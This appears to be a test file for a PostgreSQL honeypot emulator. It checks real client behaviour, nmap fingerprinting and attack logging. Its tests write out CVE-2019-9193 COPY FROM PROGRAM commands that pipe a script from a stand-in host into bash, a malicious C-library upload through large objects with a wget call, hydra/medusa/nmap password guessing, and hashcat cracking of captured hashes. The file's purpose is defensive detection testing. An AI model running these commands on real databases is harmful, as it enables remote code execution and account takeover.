import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { driver, installDrivers } from '../drivers.ts'
import { crack } from '../hashcat.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; hash?: string } } }
const ofAction = (action: string) => (event: Event) =>
  event.skep.service === 'postgresql' && event.event.action === action
const saying = (action: string, words: string) => (event: Event) =>
  ofAction(action)(event) && JSON.stringify(event).includes(words)
const python = ['/usr/bin/python3', 'python3'].find(
  program => spawnSync(program, ['-c', 'import psycopg2']).status === 0,
)
const noDrivers = installDrivers()
const rules = 'access: { rules: ["postgres:s3cret-word"], otherwise: refuse }'

const tried = async (skep: Skep, pairs: readonly (readonly [user: string, password: string])[]) => {
  for (const [user, password] of pairs) {
    const fits = (event: Event) => {
      const { skep: own, user: who } = event as Login
      // A password on no list is there as what was exchanged.
      return (
        ofAction('login')(event) &&
        who?.name === user &&
        (own.login.password === password || own.login.hash !== undefined)
      )
    }
    await skep.eventually(fits, 1, 20)
  }
}

describe('PostgreSQL, with real clients', () => {
  let skep: Skep
  let port: string
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'postgresql-words-'))
  before(async () => {
    skep = await startSkep({ config: `persona: { os: debian-12 }\nservices: { postgresql: { ${rules} } }\n` })
    port = String(skep.port('postgresql'))
    fs.writeFileSync(path.join(home, 'users'), 'postgres\nbackup\n')
    fs.writeFileSync(path.join(home, 'words'), 'alpha\nbeta\ns3cret-word\n')
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  const psql = (input: string, more = '', user = 'postgres', password = 's3cret-word') =>
    runClient(
      'psql',
      [`postgresql://${user}:${password}@127.0.0.1:${port}/postgres${more}`, '-X', '-v', 'ON_ERROR_STOP=0'],
      { input },
    )

  describe('psql', { skip: missing('psql') }, () => {
    test('lists what there is', async () => {
      const { out, err } = await psql('\\l\n\\du\n\\dn\n\\conninfo\n')
      assert.match(out, /postgres +\| postgres \| UTF8[\s\S]*template0/, err)
      assert.match(out, /postgres +\| Superuser, Create role, Create DB, Replication, Bypass RLS/, err)
      assert.match(out, /public/)
      assert.equal(err, '')
    })
    test('makes tables, describes them, and finds them at the next visit', async () => {
      await psql(
        "CREATE TABLE hay (id serial PRIMARY KEY, word varchar(20) NOT NULL, n numeric(6,2)); INSERT INTO hay (word, n) VALUES ('straw', 1.5), ('grass', NULL);",
      )
      const { out, err } = await psql('SELECT * FROM hay;\n\\d\n\\dt\n\\d hay\n')
      assert.match(out, / +1 \| straw \| 1\.50\n +2 \| grass \|/, err)
      assert.match(out, /public \| hay +\| table +\| postgres/, err)
      assert.match(out, /word +\| character varying\(20\) +\| +\| not null/, err)
    })
    test('says what the real one says of a mistake, and over TLS', async () => {
      const { err } = await psql('SELEC 1;\nSELECT nope;\nSELECT 1/0;\n', '?sslmode=require')
      assert.match(err, /ERROR: {2}syntax error at or near "SELEC"\nLINE 1: SELEC 1;/)
      assert.match(err, /ERROR: {2}column "nope" does not exist/)
      assert.match(err, /ERROR: {2}division by zero/)
      await skep.eventually(ofAction('tls-hello'))
      const refused = await psql('', '', 'postgres', 'never-on-a-list')
      assert.match(refused.err, /FATAL: {2}password authentication failed for user "postgres"/)
    })
    test('COPY moves rows both ways', async () => {
      const { out, err } = await psql(
        'CREATE TABLE moved (a int, b text);\nCOPY moved FROM STDIN;\n1\tone\n2\t\\N\n\\.\nCOPY moved TO STDOUT WITH CSV;\n',
      )
      assert.match(out, /COPY 2\n1,one\n2,\n/, err)
    })
  })

  test('a program run by COPY: the way it is done in the field', { skip: missing('psql') }, async () => {
    const { out, err } = await psql(
      "DROP TABLE IF EXISTS cmd;CREATE TABLE cmd(o text);COPY cmd FROM PROGRAM 'id; curl -s http://198.51.100.9/pg.sh | bash';SELECT * FROM cmd;",
    )
    assert.match(out, /uid=\d+\(postgres\)/, err)
    await skep.eventually(saying('exploit', 'CVE-2019-9193'))
    await skep.eventually(saying('file-download', 'http://198.51.100.9/pg.sh'))
  })
  test('a library brought as a large object is kept', { skip: missing('psql') }, async () => {
    const elf = Buffer.from('7f454c4602010100000000000000000003003e0001000000', 'hex')
    const { err } = await psql(
      `SELECT lo_from_bytea(43210, decode('${elf.toString('base64')}', 'base64'));\nSELECT lo_export(43210, '/tmp/pg_lib.so');\nCREATE FUNCTION sys_exec(text) RETURNS int AS '/tmp/pg_lib.so', 'sys_exec' LANGUAGE C STRICT;\nSELECT sys_exec('wget http://198.51.100.9/second.sh');\n`,
    )
    assert.equal(err, '')
    await skep.eventually(saying('file-upload', createHash('sha256').update(elf).digest('hex')))
    await skep.eventually(saying('file-download', 'http://198.51.100.9/second.sh'))
  })
  test('and so is one that comes page by page', { skip: missing('psql') }, async () => {
    const library = Buffer.concat([
      Buffer.from('7f454c4602010100000000000000000003003e0001000000', 'hex'),
      Buffer.alloc(3000, 0x90),
    ])
    const page = (n: number) =>
      `INSERT INTO pg_largeobject (loid, pageno, data) VALUES (43211, ${n}, decode('${library.subarray(n * 2048, (n + 1) * 2048).toString('base64')}', 'base64'));`
    const { err } = await psql(
      `SELECT lo_create(43211);\nDELETE FROM pg_largeobject WHERE loid = 43211;\n${page(1)}\n${page(0)}\nSELECT lo_export(43211, '/tmp/pages.so');\nCREATE FUNCTION pages_exec(text) RETURNS int AS '/tmp/pages.so', 'sys_exec' LANGUAGE C STRICT;\n`,
    )
    assert.equal(err, '')
    await skep.eventually(saying('file-upload', createHash('sha256').update(library).digest('hex')))
  })

  test('psycopg2', { skip: python ? false : 'python3-psycopg2 not installed' }, async () => {
    const program = `
import psycopg2
c = psycopg2.connect(host='127.0.0.1', port=${port}, user='postgres', password='s3cret-word', dbname='postgres')
assert c.server_version // 10000 == 15, c.server_version
k = c.cursor()
k.execute('SELECT %s, %s, %s::int, NULL, true, 1.5', ("it's", 'x', 3)); r = k.fetchone()
assert r == ("it's", 'x', 3, None, True, __import__('decimal').Decimal('1.5')), r
k.execute('CREATE TABLE py (a int, b timestamp, c text[])'); k.execute("INSERT INTO py VALUES (1, '2024-05-06 07:08:09', ARRAY['p', 'q r'])")
k.execute('SELECT * FROM py'); assert k.fetchall() == [(1, __import__('datetime').datetime(2024,5,6,7,8,9), ['p', 'q r'])]
c.commit()
try: k.execute('SELECT * FROM nope'); raise SystemExit('no error')
except psycopg2.Error as e: assert e.pgcode == '42P01' and 'relation "nope" does not exist' in str(e), e
c.rollback(); k.execute('DROP TABLE py'); c.commit(); c.close(); print('fine')
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, 'fine\n', err)
  })

  test('pg, with parameters and a prepared statement', { skip: noDrivers }, async () => {
    type Client = {
      connect(): Promise<void>
      query(
        what: string | { name: string; text: string; values: unknown[] },
        values?: unknown[],
      ): Promise<{ rows: Record<string, unknown>[]; rowCount: number }>
      end(): Promise<void>
    }
    const { Client: Pg } = driver<{ Client: new (options: object) => Client }>('pg')
    const client = new Pg({
      host: '127.0.0.1',
      port: Number(port),
      user: 'postgres',
      password: 's3cret-word',
      database: 'postgres',
    })
    await client.connect()
    const { rows } = await client.query('SELECT $1::int + 1 AS n, $2::text AS s, now() AS at', [41, 'text'])
    assert.equal(rows[0]?.n, 42)
    assert.equal(rows[0]?.s, 'text')
    assert.ok(rows[0]?.at instanceof Date)
    await client.query('CREATE TABLE node (id int PRIMARY KEY, big bigint)')
    for (const id of [1, 2])
      assert.equal(
        (
          await client.query({
            name: 'add',
            text: 'INSERT INTO node VALUES ($1, $2)',
            values: [id, '9007199254740993'],
          })
        ).rowCount,
        1,
      )
    assert.deepEqual((await client.query('SELECT * FROM node ORDER BY id DESC')).rows, [
      { id: 2, big: '9007199254740993' },
      { id: 1, big: '9007199254740993' },
    ])
    await assert.rejects(
      client.query('INSERT INTO node VALUES (1, 1)'),
      /duplicate key value violates unique constraint "node_pkey"/,
    )
    await client.end()
  })

  test('nmap names the product', { skip: missing('nmap') }, async () => {
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '-p', port, '127.0.0.1'], { seconds: 200 })
    assert.match(out, /open +(?:ssl\/)?postgresql +PostgreSQL DB/, out)
    assert.doesNotMatch(out, /honey|skep/i)
  })
  test('what is recorded of SCRAM can be cracked', { skip: missing('hashcat', 'psql') }, async () => {
    await psql('SELECT 1')
    const [login] = (await skep.eventually(
      event => ofAction('login')(event) && (event as Login).skep.login.password === 's3cret-word',
    )) as Login[]
    assert.match(await crack(28_600, login!.skep.login.hash!, ['sunflower', 's3cret-word']), /:s3cret-word/)
  })
})

describe('PostgreSQL that asks for MD5', () => {
  let skep: Skep
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'postgresql-words-'))
  before(async () => {
    fs.writeFileSync(path.join(home, 'words'), 'alpha\nbeta\ns3cret-word\n')
    fs.writeFileSync(path.join(home, 'users'), 'postgres\nbackup\n')
    skep = await startSkep({
      config: `persona: { os: debian-12 }\nservices: { postgresql: { ${rules}, authentication: md5, tls: false } }\n`,
    })
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  // Both speak through libpq and forget to tell it the port.
  test('hydra finds the password, and each guess is recorded', { skip: missing('hydra') }, async () => {
    const { out } = await runClient('env', [
      `PGPORT=${skep.port('postgresql')}`,
      'hydra',
      '-L',
      path.join(home, 'users'),
      '-P',
      path.join(home, 'words'),
      '-t',
      '1',
      '-I',
      '-s',
      String(skep.port('postgresql')),
      '127.0.0.1',
      'postgres',
    ])
    assert.match(out, /\[postgres\] host: 127\.0\.0\.1 +login: postgres +password: s3cret-word/, out)
    await tried(skep, [
      ['postgres', 'alpha'],
      ['postgres', 's3cret-word'],
      ['backup', 'beta'],
    ])
  })
  test('so does medusa', { skip: missing('medusa') }, async () => {
    const { out } = await runClient('env', [
      `PGPORT=${skep.port('postgresql')}`,
      'medusa',
      '-h',
      '127.0.0.1',
      '-n',
      String(skep.port('postgresql')),
      '-U',
      path.join(home, 'users'),
      '-P',
      path.join(home, 'words'),
      '-M',
      'postgres',
      '-t',
      '1',
    ])
    assert.match(out, /ACCOUNT FOUND: \[postgres\] Host: 127\.0\.0\.1 User: postgres Password: s3cret-word/, out)
  })
  test('nmap guesses it, each guess is recorded, and the hash can be cracked', {
    skip: missing('nmap', 'hashcat'),
  }, async () => {
    const given = `userdb=${path.join(home, 'users')},passdb=${path.join(home, 'words')}`
    const { out } = await runClient(
      'nmap',
      [
        '-Pn',
        '-n',
        '-sV',
        '-p',
        String(skep.port('postgresql')),
        '--script',
        'pgsql-brute',
        '--script-args',
        given,
        '127.0.0.1',
      ],
      { seconds: 200 },
    )
    assert.match(out, /pgsql-brute:[\s\S]*postgres:s3cret-word => Valid credentials/, out)
    await tried(skep, [
      ['postgres', 'alpha'],
      ['postgres', 's3cret-word'],
    ])
    const [login] = (await skep.eventually(
      event => ofAction('login')(event) && (event as Login).skep.login.password === 's3cret-word',
    )) as Login[]
    assert.match(await crack(11_100, login!.skep.login.hash!, ['sunflower', 's3cret-word']), /:s3cret-word/)
  })
})
